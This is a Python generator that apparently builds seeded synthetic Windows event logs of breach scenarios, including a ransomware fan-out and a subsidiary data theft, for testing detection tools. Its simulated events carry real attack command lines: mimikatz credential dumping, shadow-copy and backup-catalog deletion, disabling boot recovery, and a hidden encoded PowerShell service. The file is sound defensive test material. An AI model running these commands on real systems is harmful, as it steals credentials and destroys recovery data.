    w.step("toshiba.mailbox_export", "D10 distinct mailboxes per principal; T1114.002", mail,
           admin, t1, s2)

    t2 = at(t1, r.randint(20, 40), rng=r)

    def s3(emit):
        emit(w.ev(mail, t2, SYSTEM, SCM, 7040, qualifiers=16384, keywords="0x8080000000000000",
                  user=admin["sid"], data={"param1": "Microsoft Exchange Replication",
                                           "param2": "disabled", "param3": "auto start",
                                           "param4": "MSExchangeRepl"}))
        for i in range(r.randint(2, 4)):
            emit(w.e5145(mail, t2 + timedelta(seconds=10 + i * 5), admin, fh["ip"], "E$",
                         "E:\\", "ExchangeDB\\DB%02d\\DB%02d.edb" % (i + 1, i + 1)))
    w.step("toshiba.replication_copy", "copy-path drift; T1114.002", mail, admin, t2, s3)


# ------------------------------------------------------------------------------------------
# 4 MK System (2023-06-05 JST)

def scen_mksystem(w):
    r = w.rng
    cands = [w.host("public RemoteApp server", ["RDS", "RAPP"]) for _ in range(2)]
    fh = pick_foothold(w, cands)
    dc = w.host("domain controller", ["DC", "ADDS"])
    # the ransomware reached every server it could; at least five make the
    # fan-out of D3 (incidents-and-scenarios.md, threshold >= 5 servers)
    targets = [dc, w.host("SQL server", ["SQL", "DBSV"]),
               w.host("virtualization host", ["HV", "VMH"]),
               w.host("virtualization host", ["HV", "VMH"]),
               w.host("file server", ["FS", "NAS"]),
               w.host("backup server", ["BKUP", "BAK"])]
    user = w.account("domain user (stolen)")
    newadm = w.account("domain admin created by the attacker", admin=True)
    ext = w.public_ip()
    jst = timezone(timedelta(hours=9))

    def jt(h, m):
        return datetime(2023, 6, 5, h, m, r.randint(0, 59), r.randint(0, 999999),
                        tzinfo=jst).astimezone(timezone.utc)

    t0 = jt(1, 12)

    def s0(emit):
        for i in range(r.randint(3, 6)):
            t = t0 - timedelta(seconds=r.randint(60, 600))
            emit(w.ev(fh, t, SEC, SA, 4625, data={
                "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
                "SubjectLogonId": "0x0", "TargetUserSid": "S-1-0-0",
                "TargetUserName": r.choice([user["name"], "administrator", "admin"]),
                "TargetDomainName": w.domain, "Status": "0xc000006d",
                "FailureReason": "%%2313", "SubStatus": "0xc000006a", "LogonType": 3,
                "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
                "WorkstationName": "-", "TransmittedServices": "-", "LmPackageName": "-",
                "KeyLength": 0, "ProcessId": "0x0", "ProcessName": "-", "IpAddress": ext,
                "IpPort": "0"}))
    w.step("mksystem.rdp_failed_logons", "D1 failed logons before success; T1110",
           fh, user, t0 - timedelta(seconds=600), s0)

    lid = w.logon_id()

    def s1(emit):
        emit(w.ev(fh, t0 - timedelta(seconds=3), "%s/Operational" % RCM, RCM, 1149,
                  keywords="0x4000000000000000", user="S-1-5-20", userdata={"EventXML": {
                      "#attributes": {"xmlns": "Event_NS"}, "Param1": user["name"],
                      "Param2": w.domain, "Param3": ext}}))
        emit(w.e4624(fh, t0, user, 10, ext, fh["name"], lid=lid))
        emit(w.ev(fh, t0 + timedelta(seconds=2), "%s/Operational" % LSM, LSM, 21,
                  keywords="0x1000000000000000", user="S-1-5-18", userdata={"EventXML": {
                      "#attributes": {"xmlns": "Event_NS"},
                      "User": "%s\\%s" % (w.domain, user["name"]), "SessionID": 2,
                      "Address": ext}}))
        emit(w.ev(fh, t0 + timedelta(seconds=4), "%s/Operational" % LSM, LSM, 22,
                  keywords="0x1000000000000000", user="S-1-5-18", userdata={"EventXML": {
                      "#attributes": {"xmlns": "Event_NS"},
                      "User": "%s\\%s" % (w.domain, user["name"]), "SessionID": 2,
                      "Address": ext}}))
    w.step("mksystem.rdp_external_logon", "D1 first external IP for the account; T1133",
           fh, user, t0, s1)

    t1 = jt(1, 42)

    def s2(emit):
        emit(w.ev(dc, t1, SEC, SA, 4720, data={
            "TargetUserName": newadm["name"], "TargetDomainName": w.domain,
            "TargetSid": newadm["sid"], "SubjectUserSid": user["sid"],
            "SubjectUserName": user["name"], "SubjectDomainName": w.domain,
            "SubjectLogonId": w.logon_id(), "PrivilegeList": "-", "SamAccountName": newadm["name"],
            "DisplayName": "%%1793", "UserPrincipalName": "%s@%s" % (newadm["name"], w.fqdn),
            "HomeDirectory": "%%1793", "HomePath": "%%1793", "ScriptPath": "%%1793",
            "ProfilePath": "%%1793", "UserWorkstations": "%%1793",
            "PasswordLastSet": "%%1794", "AccountExpires": "%%1794", "PrimaryGroupId": "513",
            "AllowedToDelegateTo": "-", "OldUacValue": "0x0", "NewUacValue": "0x15",
            "UserAccountControl": "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084",
            "UserParameters": "%%1793", "SidHistory": "-", "LogonHours": "%%1797"}))
        emit(w.ev(dc, t1 + timedelta(seconds=8), SEC, SA, 4728, data={
            "MemberName": "CN=%s,CN=Users,DC=%s" % (newadm["name"], ",DC=".join(w.fqdn.split("."))),
            "MemberSid": newadm["sid"], "TargetUserName": "Domain Admins",
            "TargetDomainName": w.domain, "TargetSid": w.dsid + "-512",
            "SubjectUserSid": user["sid"], "SubjectUserName": user["name"],
            "SubjectDomainName": w.domain, "SubjectLogonId": w.logon_id(),
            "PrivilegeList": "-"}))
        emit(w.e4672(fh, t1 + timedelta(seconds=20), newadm, w.logon_id()))
    w.step("mksystem.domain_admin", "T1098/T1136.002 admin rights", dc, newadm, t1, s2)

    t2 = jt(1, 43)
    anyd = "C:\\Users\\%s\\Downloads\\AnyDesk.exe" % newadm["name"]

    def s3(emit):
        emit(w.sysmon1(fh, t2, newadm, anyd, "\"%s\" --install C:\\ProgramData\\AnyDesk "
                       "--start-with-win --silent" % anyd, "C:\\Windows\\explorer.exe",
                       "C:\\Windows\\Explorer.EXE", "AnyDesk.exe", "AnyDesk"))
        emit(w.e7045(fh, t2 + timedelta(seconds=5), newadm, "AnyDesk Service",
                     "\"C:\\ProgramData\\AnyDesk\\AnyDesk.exe\" --service", start="auto start"))
        emit(w.sysmon22(fh, t2 + timedelta(seconds=9), "C:\\ProgramData\\AnyDesk\\AnyDesk.exe",
                        newadm, "relay-%08x.net.anydesk.com" % r.getrandbits(32), w.public_ip()))
    w.step("mksystem.remote_access_tool", "T1219; D2 tool burst", fh, newadm, t2, s3)

    t3 = jt(1, 45)
    mimi = "C:\\Users\\Public\\%s.exe" % r.choice(["m64", "mk", "x"])

    def s4(emit):
        emit(w.sysmon1(fh, t3, newadm, mimi, "%s \"privilege::debug\" \"sekurlsa::logonpasswords\" "
                       "exit" % mimi, "C:\\Windows\\System32\\cmd.exe", "cmd.exe",
                       "mimikatz.exe", "mimikatz for Windows"))
        emit(w.ev(fh, t3 + timedelta(seconds=1), SYSM, SM, 10, task=10, version=3,
                  user="S-1-5-18", data={
                      "RuleName": "-", "UtcTime": iso(t3)[:23].replace("T", " "),
                      "SourceProcessGUID": w.guid(), "SourceProcessId": w.pid(),
                      "SourceThreadId": w.pid(), "SourceImage": mimi,
                      "TargetProcessGUID": w.guid(), "TargetProcessId": 668,
                      "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1010",
                      "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(0000)",
                      "SourceUser": "%s\\%s" % (w.domain, newadm["name"]),
                      "TargetUser": "NT AUTHORITY\\SYSTEM"}))
    w.step("mksystem.credential_dump", "T1003.001; D2", fh, newadm, t3, s4)

    t4 = jt(1, 48)
    svcname = "".join(r.choice("abcdef0123456789") for _ in range(7))
    pipe = "\\MSSE-%d-server" % r.randint(1000, 9999)

    def s5(emit):
        emit(w.e7045(fh, t4, newadm, svcname, "%%COMSPEC%% /b /c start /b /min powershell -nop "
                     "-w hidden -encodedcommand JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA="))
        emit(w.ev(fh, t4 + timedelta(seconds=2), SYSM, SM, 17, task=17, version=1,
                  user="S-1-5-18", data={
                      "RuleName": "-", "EventType": "CreatePipe",
                      "UtcTime": iso(t4)[:23].replace("T", " "), "ProcessGuid": w.guid(),
                      "ProcessId": w.pid(), "PipeName": pipe,
                      "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                      "User": "NT AUTHORITY\\SYSTEM"}))
    w.step("mksystem.pentest_framework", "T1569.002 service execution; D2", fh, newadm, t4, s5)

    t5 = jt(2, 18)
    ph = "C:\\Users\\Public\\ProcessHacker\\ProcessHacker.exe"

    def s6(emit):
        emit(w.sysmon1(fh, t5, newadm, ph, "\"%s\"" % ph, "C:\\Windows\\explorer.exe",
                       "C:\\Windows\\Explorer.EXE", "ProcessHacker.exe", "Process Hacker"))
        emit(w.e7045(fh, t5 + timedelta(seconds=2), newadm, "KProcessHacker3",
                     "\\??\\C:\\Users\\Public\\ProcessHacker\\kprocesshacker.sys",
                     stype="kernel mode driver"))
    w.step("mksystem.process_list_tool", "T1057; D2", fh, newadm, t5, s6)

    t6 = jt(3, 14)

    def s7(emit):
        for i, h in enumerate(targets):
            t = t6 + timedelta(seconds=45 * i + r.randint(0, 20))
            emit(w.e4624(h, t, newadm, 3, fh["ip"], fh["name"], "NTLM"))
            emit(w.e5140(h, t + timedelta(seconds=1), newadm, fh["ip"], "ADMIN$", "C:\\Windows"))
            emit(w.e5145(h, t + timedelta(seconds=1, milliseconds=300), newadm, fh["ip"],
                         "ADMIN$", "C:\\Windows", "PSEXESVC.exe", "0x2"))
            emit(w.e7045(h, t + timedelta(seconds=2), newadm, "PSEXESVC",
                         "%SystemRoot%\\PSEXESVC.exe"))
            emit(w.ev(h, t + timedelta(seconds=2, milliseconds=500), SYSTEM, SCM, 7036,
                      qualifiers=16384, keywords="0x8080000000000000", data={
                          "param1": "PSEXESVC", "param2": "running",
                          "Binary": "500053004500580045005300560043002F0034000000"}))
            lock = "C:\\ProgramData\\%s.exe" % r.choice(["svc", "upd", "lb3"])
            for j, (img, cmd, ofn) in enumerate([
                    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
                     "VSSADMIN.EXE"),
                    ("C:\\Windows\\System32\\wbadmin.exe", "wbadmin delete catalog -quiet",
                     "WBADMIN.EXE"),
                    ("C:\\Windows\\System32\\bcdedit.exe",
                     "bcdedit /set {default} recoveryenabled no", "bcdedit.exe")]):
                emit(w.sysmon1(h, t + timedelta(seconds=5 + j), "NT AUTHORITY\\SYSTEM", img, cmd,
                               lock, lock, ofn, ofn.split(".")[0].lower(), "System"))
            emit(w.ev(h, t + timedelta(seconds=10), "Application",
                      "Microsoft-Windows-RestartManager", 10000, keywords="0x8000000000000000",
                      user="S-1-5-18", data={"RmSessionId": r.randint(0, 9),
                                             "UTCStartTime": iso(t)}))
            for k in range(3):
                emit(w.sysmon11(h, t + timedelta(seconds=12 + k), lock,
                                "D:\\data\\%s_%02d.%s.locked" % (
                                    r.choice(["db", "backup", "vm"]), k,
                                    r.choice(["mdf", "vhdx", "bak"])), "NT AUTHORITY\\SYSTEM"))
    w.step("mksystem.ransomware_fanout", "D3 fan-out; T1486/T1490/T1021.002", dc, newadm, t6, s7)


# ------------------------------------------------------------------------------------------
# 5 OKI (2021-11)

def scen_oki(w):
    r = w.rng
    snet = w.subnet(10)
    cands = [w.host("overseas subsidiary server", ["OSSV", "SUBSV"], snet) for _ in range(2)]
    fh = pick_foothold(w, cands)
    fs = w.host("file server", ["FS", "FILESV"])
    acct = w.account("subsidiary service account")
    base = datetime(2021, 11, 8, 0, 30, tzinfo=timezone.utc) + timedelta(minutes=r.randint(0, 300))
    t0 = at(base, 0, rng=r)

    def s1(emit):
        emit(w.e4624(fs, t0, acct, 3, fh["ip"], fh["name"], "NTLM"))
    w.step("oki.subsidiary_logon", "D9 new entity->file-server edge; T1078", fs, acct, t0, s1)

    t1 = at(t0, r.randint(2, 10), rng=r)
    scanner = "C:\\Users\\%s\\AppData\\Local\\Temp\\Advanced IP Scanner 2\\advanced_ip_scanner.exe" \
        % acct["name"]

    def s2(emit):
        emit(w.sysmon1(fh, t1, acct, scanner, "\"%s\" /portable \"C:/Users/%s/Temp\" /lng en_us"
                       % (scanner, acct["name"]), "C:\\Windows\\explorer.exe",
                       "C:\\Windows\\Explorer.EXE", "advanced_ip_scanner.exe",
                       "Advanced IP Scanner"))
        emit(w.sysmon1(fh, t1 + timedelta(seconds=40), acct, "C:\\Windows\\System32\\net.exe",
                       "net view \\\\%s /all" % fs["name"], "C:\\Windows\\System32\\cmd.exe",
                       "cmd.exe", "net.exe", "Net Command"))
    w.step("oki.network_scan", "T1046/T1135 scanning and share enumeration", fh, acct, t1, s2)

    t2 = at(t1, r.randint(5, 20), rng=r)
    shares = ["%s$" % s if r.random() < 0.2 else s for s in
              r.sample(["Sales", "Design", "Projects", "HR", "Finance", "Common", "Export"], 4)]

    def s3(emit):
        t = t2
        for s in shares:
            emit(w.e5140(fs, t, acct, fh["ip"], s, "E:\\%s" % s.rstrip("$")))
            for i in range(r.randint(10, 20)):
                t = t + timedelta(seconds=r.randint(1, 4), milliseconds=r.randint(0, 999))
                emit(w.e5145(fs, t, acct, fh["ip"], s, "E:\\%s" % s.rstrip("$"),
                             "%s\\%s_%04d.%s" % (r.choice(["2021", "archive", "customer"]),
                                                 r.choice(["report", "quote", "drawing"]),
                                                 r.randint(1, 9999),
                                                 r.choice(["pdf", "xlsx", "dwg", "docx"]))))
            t = t + timedelta(seconds=r.randint(10, 40))
    w.step("oki.bulk_share_read", "D8 bulk read; T1039", fs, acct, t2, s3)


BUILDERS = {"mitsubishi": scen_mitsubishi, "nec": scen_nec, "toshiba": scen_toshiba,
            "mksystem": scen_mksystem, "oki": scen_oki}


# ------------------------------------------------------------------------------------------
# background

def bg_keep(ev):
    """True for the events used as background (see README): routine, benign by content."""
    e = ev.get("Event", {})
    s = e.get("System", {})
    eid = s.get("EventID")
    eid = eid.get("#text") if isinstance(eid, dict) else eid
    ch = s.get("Channel")
    d = e.get("EventData") or {}
    if not isinstance(d, dict):
        return False
    if ch == "Security":
        if eid == 4624:
            return d.get("LogonType") in (5, "5") and d.get("TargetUserSid") in (
                "S-1-5-18", "S-1-5-19", "S-1-5-20")
        if eid == 4672:
            return d.get("SubjectUserSid") in ("S-1-5-18", "S-1-5-19", "S-1-5-20")
        return eid == 4634
    if ch == "System":
        return eid in (7036, 16, 19, 43, 44) and "EventData" in e
    if ch == SYSM and eid == 1:
        img = str(d.get("Image", "")).lower()
        return img.split("\\")[-1] in (
            "svchost.exe", "wermgr.exe", "musnotification.exe", "devicecensus.exe",
            "sihclient.exe", "compattelrunner.exe", "usoclient.exe", "sppsvc.exe",
            "wuauclt.exe", "mpcmdrun.exe", "ui0detect.exe") and (
            img.startswith("c:\\windows\\system32\\") or
            img.startswith("c:\\program files\\windows defender\\"))
    return False


def find_kizuki():
    b = os.environ.get("KZ_BUILD") or os.path.join(TOP, "build")
    p = os.path.join(b, "kizuki")
    return p if os.access(p, os.X_OK) else None


def load_background(paths):
    kz = find_kizuki()
    if not kz:
        raise SystemExit("make_scenario: --background needs kizuki (set KZ_BUILD)")
    out = subprocess.run([kz, "dump", "-q", "-j", "1"] + list(paths), check=False,
                         stdout=subprocess.PIPE, stderr=subprocess.DEVNULL).stdout
    pool = []
    for line in out.decode("utf-8", "replace").splitlines():
        try:
            ev = json.loads(line)
        except ValueError:
            continue
        if bg_keep(ev):
            ev.pop("kizuki", None)
            pool.append(ev)
    return pool


def place_background(w, pool, per_host, t_lo, t_hi):
    """Copy per_host pool events onto each host, at seeded times in [t_lo, t_hi]."""
    n = 0
    span = max(1, int((t_hi - t_lo).total_seconds()))
    for h in w.hosts:
        for src in w.rng.sample(pool, min(per_host, len(pool))):
            ev = json.loads(json.dumps(src))
            s = ev["Event"]["System"]
            t = t_lo + timedelta(seconds=w.rng.randrange(span),
                                 microseconds=w.rng.randrange(10 ** 6))
            s["TimeCreated"] = {"#attributes": {"SystemTime": iso(t)}}
            s["Computer"] = h["fqdn"]
            d = ev["Event"].get("EventData")
            if isinstance(d, dict):
                for k, v in list(d.items()):
                    if k in ("SubjectUserName", "TargetUserName") and isinstance(v, str) \
                            and v.endswith("$"):
                        d[k] = h["name"] + "$"
                    elif k in ("SubjectDomainName", "TargetDomainName") and v not in (
                            "NT AUTHORITY", "Window Manager", "Font Driver Host", "-", ""):
                        d[k] = w.domain
                    elif k == "WorkstationName" and v not in ("-", ""):
                        d[k] = h["name"]
                    elif k == "UtcTime":
                        d[k] = iso(t)[:23].replace("T", " ")
                    elif k == "Computer":
                        d[k] = h["fqdn"]
            w.events.append((None, ev))
            n += 1
    return n


# ------------------------------------------------------------------------------------------
# output

def ev_time(ev):
    return ev["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"]


def chan_file(host, channel):
    return "evtx/%s/%s.evtx" % (host.split(".")[0], channel.replace("/", "%4").replace(" ", "_"))


def build(scenario, seed, outdir, background, per_host, shapes, drop, foothold):
    w = World(scenario, seed, foothold)
    BUILDERS[scenario](w)
    keys = [s["key"] for s in w.steps]
    for d in drop:
        if d.split(".")[0] == scenario and d not in keys:
            raise SystemExit("--drop-step %s: unknown step (steps: %s)" % (d, ", ".join(keys)))
    w.events = [(k, e) for k, e in w.events if k not in drop]
    # the time frame of the background: the attack events left, else (every
    # step dropped) the steps' planned times
    times = sorted(ev_time(e) for _, e in w.events) or sorted(s["time"] for s in w.steps)
    nbg = 0
    if background:
        lo = datetime.strptime(times[0][:19], "%Y-%m-%dT%H:%M:%S").replace(
            tzinfo=timezone.utc) - timedelta(hours=1)
        hi = datetime.strptime(times[-1][:19], "%Y-%m-%dT%H:%M:%S").replace(
            tzinfo=timezone.utc) + timedelta(hours=1)
        nbg = place_background(w, background, per_host, lo, hi)
    # record ids per (host, channel), in time order, from a seeded start
    groups = {}
    for i, (k, ev) in enumerate(w.events):
        s = ev["Event"]["System"]
        groups.setdefault(chan_file(s["Computer"], s["Channel"]), []).append((ev_time(ev), i))
    where = {}
    files = {}
    for f in sorted(groups):
        start = w.rng.randint(1000, 900000)
        for n, (_, i) in enumerate(sorted(groups[f])):
            w.events[i][1]["Event"]["System"]["EventRecordID"] = start + n
            where[i] = (f, start + n)
        files[f] = [w.events[i][1] for _, i in sorted(groups[f])]
    sc_dir = os.path.join(outdir, scenario)
    os.makedirs(sc_dir, exist_ok=True)
    if "evtx" in shapes:
        for f, evs in files.items():
            p = os.path.join(sc_dir, f)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            data = W.build_evtx([W.event_from_json(e) for e in evs],
                                first_record_id=evs[0]["Event"]["System"]["EventRecordID"])
            with open(p, "wb") as fh:
                fh.write(data)
    allev = sorted(w.events, key=lambda ke: (ev_time(ke[1]), ke[1]["Event"]["System"]["Computer"],
                                             ke[1]["Event"]["System"]["Channel"]))
    def with_guid(fn):
        # make_examples' converters expect a provider Guid; classic providers have none
        def conv1(e):
            e = json.loads(json.dumps(e))
            e["Event"]["System"]["Provider"].setdefault("#attributes", {}).setdefault("Guid", "")
            out = fn(e)
            return out
        return conv1
    conv = {"evtx_dump": lambda e: e, "winlogbeat7": with_guid(MX.winlogbeat7),
            "winlogbeat6": with_guid(MX.winlogbeat6), "nxlog": with_guid(MX.nxlog),
            "flat": with_guid(MX.flat)}
    for sh in shapes:
        if sh == "evtx":
            continue
        os.makedirs(os.path.join(sc_dir, "json"), exist_ok=True)
        with open(os.path.join(sc_dir, "json", sh + ".jsonl"), "w", encoding="utf-8") as fo:
            for _, e in allev:
                fo.write(json.dumps(conv[sh](e), ensure_ascii=False, sort_keys=False) + "\n")
    for st in w.steps:
        st["dropped"] = st["key"] in drop
    for i, (k, ev) in enumerate(w.events):
        if k is None:
            continue
        st = next(s for s in w.steps if s["key"] == k)
        s = ev["Event"]["System"]
        eid = s["EventID"]
        st["events"].append({"file": where[i][0], "record_id": where[i][1],
                             "channel": s["Channel"],
                             "event_id": eid["#text"] if isinstance(eid, dict) else eid,
                             "time": ev_time(ev)})
    for st in w.steps:
        st["events"].sort(key=lambda x: (x["time"], x["file"], x["record_id"]))
    truth = {"scenario": scenario, "seed": seed, "domain": w.domain, "dns_domain": w.fqdn,
             "hosts": w.hosts, "accounts": w.accounts, "steps": w.steps,
             "files": {f: len(v) for f, v in sorted(files.items())},
             "background_events": nbg, "attack_events": sum(len(s["events"]) for s in w.steps),
             "shapes": list(shapes)}
    with open(os.path.join(sc_dir, "truth.json"), "w", encoding="utf-8") as fo:
        json.dump(truth, fo, indent=1, ensure_ascii=False)
        fo.write("\n")
    return truth


def main(argv=None):
    ap = argparse.ArgumentParser(description="seeded breach scenario generator")
    ap.add_argument("outdir")
    ap.add_argument("--scenario", required=True, choices=SCENARIOS + ("all",))
    ap.add_argument("--seed", type=int, required=True)
    ap.add_argument("--background", action="append", default=None,
                    help="EVTX/JSON file or directory, repeatable (default: KIZUKI_SHARED/data/evtx/"
                         "evtx-rs-samples when kizuki is built; 'none' for no background)")
    ap.add_argument("--background-per-host", type=int, default=40)
    ap.add_argument("--shapes", default="evtx")
    ap.add_argument("--drop-step", action="append", default=[])
    ap.add_argument("--foothold", type=int, default=None)
    a = ap.parse_args(argv)
    shapes = [s for s in a.shapes.split(",") if s]
    for s in shapes:
        if s not in SHAPES:
            ap.error("unknown shape %s (one of %s)" % (s, ",".join(SHAPES)))
    bgpaths = a.background
    if bgpaths is None:
        d = os.path.join(os.environ.get("KIZUKI_SHARED", "/work/shared"), "data", "evtx",
                         "evtx-rs-samples")
        bgpaths = [d] if os.path.isdir(d) and find_kizuki() else ["none"]
    pool = [] if bgpaths == ["none"] else load_background(bgpaths)
    for sc in (SCENARIOS if a.scenario == "all" else (a.scenario,)):
        t = build(sc, a.seed, a.outdir, pool, a.background_per_host, shapes,
                  set(a.drop_step), a.foothold)
        print("%s: %d attack steps, %d attack events, %d background, %d files" % (
            sc, len(t["steps"]), t["attack_events"], t["background_events"], len(t["files"])))


if __name__ == "__main__":
    main()
